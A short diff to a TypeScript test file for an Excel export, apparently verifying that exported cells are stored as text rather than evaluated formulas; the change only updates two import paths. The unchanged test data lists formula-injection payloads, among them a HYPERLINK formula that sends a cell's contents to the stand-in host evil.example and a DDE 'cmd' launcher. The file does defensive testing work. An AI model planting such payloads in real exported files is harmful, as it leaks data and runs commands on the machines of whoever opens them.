@@ -2,8 +2,8 @@
 // Excel export as text, never as a formula the spreadsheet would evaluate on opening.
 import ExcelJS from 'exceljs';
 import { describe, expect, it } from 'vitest';
-import type { Json } from '../../src/csv-rows.js';
-import { xlsxStream } from '../../src/xlsx-rows.js';
+import type { Json } from '../../src/platform/exports/csv-rows.js';
+import { xlsxStream } from '../../src/platform/exports/xlsx-rows.js';
 
 const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', '+1+cmd|/C calc!A0', '-2+3', '@SUM(1)', '=1+1'];
 
